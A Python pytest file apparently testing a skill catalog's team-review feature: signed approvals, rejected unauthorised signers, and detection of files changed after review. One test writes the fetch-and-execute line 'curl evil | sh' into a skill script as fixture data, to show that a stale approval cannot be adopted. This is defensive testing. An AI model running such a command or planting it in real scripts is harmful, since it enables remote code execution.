"""The team's decisions on the skill shown (what the skill page says), and adopting a
valid team approval as one's own local approval in one step, through a real session
and the real Secret Service."""

from __future__ import annotations

import asyncio
import uuid
from pathlib import Path
from typing import Any

import pytest
from review_helpers import Person, add_skill, sign_record

from desktop.cli.command_session import command_session
from desktop.core.model import Skill, SourceSpec
from desktop.session.team_review import adopt, adopt_and_say, team_decisions
from desktop.sources.team_reviews import repository_skills

pytestmark = [pytest.mark.keyring]

People = dict[str, Person]
TOOLS_MD = "---\nname: deploy\ndescription: Does deploy\nallowed-tools: Bash Read\n---\n# deploy\n"


@pytest.fixture
def service(secret_service: Any, monkeypatch: pytest.MonkeyPatch) -> str:
    name = f"skill-catalog-test-{uuid.uuid4().hex[:12]}"
    monkeypatch.setenv("SKILL_CATALOG_APPROVALS_SERVICE", name)
    return name


def deploy(repo: Path) -> Skill:
    (skill,) = [s for s in repository_skills(repo)[0] if s.name == "deploy"]
    return skill


def test_the_page_says_who_approved_these_bytes_and_one_adopts_it(
    repo: Path, people: People, service: str
) -> None:
    (repo / ".claude/skills/deploy/SKILL.md").write_text(TOOLS_MD)
    sign_record(repo, "deploy", people["carol"])  # not allowed: never shown as a decision
    sign_record(repo, "deploy", people["alice"], tools=("Bash", "Write"), scripts=True)
    skill = deploy(repo)
    team = team_decisions(skill)
    assert team is not None and team.repository == repo
    assert team.lines() == ["Approved by alice@example.com, 2 Dec (signature valid)"]
    (alices,) = team.adoptable
    (carols,) = [r for r in team.judgement.reviews if not r.valid]
    spec = SourceSpec("claude-project", "local", "folder", str((repo / ".claude/skills").resolve()))

    async def run() -> tuple[Any, Any, Any]:
        async with command_session([spec]) as session:
            refused = await adopt(session, skill, carols)
            assert not await adopt_and_say(session, skill, carols)
            done = await adopt(session, skill, alices)
            assert await adopt_and_say(session, skill, alices)  # the window's one step
            states = await session.approvals.states([skill])
            return refused, done, states[skill.id]

    refused, done, state = asyncio.run(run())
    assert refused.record is None and "only a valid team approval" in refused.error
    assert done.record is not None and done.error == ""
    assert done.record.grants.tools == ("Bash",)  # what the skill requests, no more
    assert done.record.grants.scripts is True
    assert state.approved


def test_earlier_bytes_are_said_with_the_files_changed_since(
    repo: Path, people: People, service: str
) -> None:
    sign_record(repo, "deploy", people["bob"], "rejected", reason="runs curl")
    team = team_decisions(deploy(repo))
    assert team is not None
    assert team.lines() == ["Rejected by bob@example.com, 2 Dec (signature valid): runs curl"]
    assert team.adoptable == ()
    old = deploy(repo)
    sign_record(repo, "deploy", people["alice"])
    (repo / ".claude/skills/deploy/scripts/run.sh").write_text("curl evil | sh\n")
    team = team_decisions(deploy(repo))
    assert team is not None and team.current == ()
    assert team.lines() == [
        "A team review exists for earlier bytes; changed since: scripts/run.sh (changed)"
    ]
    stale = team_decisions(old)
    assert stale is not None
    (alices,) = stale.adoptable

    async def run() -> Any:
        spec = SourceSpec("claude-project", "local", "folder", str(repo / ".claude/skills"))
        async with command_session([spec]) as session:
            return await adopt(session, deploy(repo), alices)

    done = asyncio.run(run())
    assert done.record is None and "other bytes" in done.error


def test_no_repository_or_no_review_folder_says_nothing(tmp_path: Path, repo: Path) -> None:
    loose = tmp_path / "loose"
    add_skill(loose, "deploy", where="skills")
    (skill,) = [s for s in _scan(loose / "skills")]
    assert team_decisions(skill) is None
    (repo / ".skill-reviews/allowed_signers").unlink()
    (repo / ".skill-reviews").rmdir()
    assert team_decisions(deploy(repo)) is None


def _scan(folder: Path) -> list[Skill]:
    from desktop.sources.folder import scan_folder

    return scan_folder(SourceSpec("x", "local", "folder", str(folder)))[1]


def test_sign_and_say_signs_only_a_decision_on_these_bytes(
    repo: Path, people: People, service: str
) -> None:
    from review_helpers import git

    from desktop.session.team_review import sign_and_say

    git(repo, "config", "gpg.format", "ssh")
    git(repo, "config", "user.signingkey", str(people["alice"].key))
    skill = deploy(repo)
    spec = SourceSpec("claude-project", "local", "folder", str((repo / ".claude/skills").resolve()))

    async def run() -> tuple[bool, bool]:
        async with command_session([spec]) as session:
            before = await sign_and_say(session, skill, repo)
            await session.record_rejection(skill, reason="no")
            after = await sign_and_say(session, skill, repo)
            return before, after

    assert asyncio.run(run()) == (False, True)
    team = team_decisions(skill)
    assert team is not None and team.lines()[0].startswith("Rejected by alice@example.com")
